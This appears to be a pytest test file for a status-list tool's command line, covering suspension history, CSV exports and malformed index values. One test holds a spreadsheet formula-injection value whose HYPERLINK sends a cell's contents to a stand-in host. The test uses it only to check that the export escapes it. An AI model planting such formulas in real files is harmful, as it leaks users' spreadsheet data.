"""The command line's own idempotency keys, hostile cells, and what a bad CSV ends with."""

import csv
import json
from pathlib import Path

import pytest

from ler_trust.cli.main import run
from tests.unit.cli.test_cli_list_files import data, said, written  # noqa: F401


def list_of(table: Path) -> str:
    """Return the list that the first entry handed out is of: any of those that are open."""
    [row] = csv.DictReader(table.read_text(encoding="utf-8").splitlines())
    return row["statusListCredential"].rpartition("/")[2]


@pytest.fixture
def suspensions(capsys: pytest.CaptureFixture[str], data: None) -> str:  # noqa: F811
    assert run(["keys", "create-signing"]) == 0
    key = capsys.readouterr().out.splitlines()[0]
    assert run(["lists", "create", "--purpose", "suspension", "--key", key]) == 0
    return capsys.readouterr().out.splitlines()[0]


def test_suspended_reinstated_and_suspended_again_is_suspended(
    suspensions: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = written(tmp_path / "one.csv", "reference", "a")
    said(capsys, "lists", "allocate-file", source, "--purpose", "suspension", "--output", str(tmp_path / "o"))
    for status in ("suspended", "active", "suspended"):
        assert said(capsys, "lists", "change-file", source, "--status", status) == "1 changes made.\n"
    assert run(["lists", "history", list_of(tmp_path / "o"), "--format", "ndjson"]) == 0
    trail = [json.loads(line)["value"] for line in capsys.readouterr().out.splitlines()]
    assert trail == [1, 0, 1]


def test_formula_in_a_reason_is_text_in_the_exported_trail(
    suspensions: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = written(tmp_path / "one.csv", "reference", "a")
    said(capsys, "lists", "allocate-file", source, "--purpose", "suspension", "--output", str(tmp_path / "o"))
    formula = '=HYPERLINK("https://x.example/"&A1)'
    cell = formula.replace('"', '""')
    rows = written(tmp_path / "two.csv", "reference,status,reason", f'a,suspended,"{cell}"')
    said(capsys, "lists", "change-file", rows)
    output = tmp_path / "trail.csv"
    said(capsys, "lists", "history", list_of(tmp_path / "o"), "--output", str(output))
    [change] = csv.DictReader(output.read_text(encoding="utf-8").splitlines())
    assert change["reason"] == "'" + formula


@pytest.mark.parametrize("index", ["\u00b2", "9" * 5_000])
@pytest.mark.parametrize("reference", ["", "a"])
def test_index_that_is_no_number_is_named(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    data: None,  # noqa: F811
    index: str,
    reference: str,
) -> None:
    rows = written(
        tmp_path / "c.csv",
        "reference,statusListCredential,statusListIndex,status",
        f"{reference},https://x.example/1,{index},revoked",
    )
    assert "unexpected error" not in said(capsys, "lists", "change-file", rows, status=1 if reference else 64)
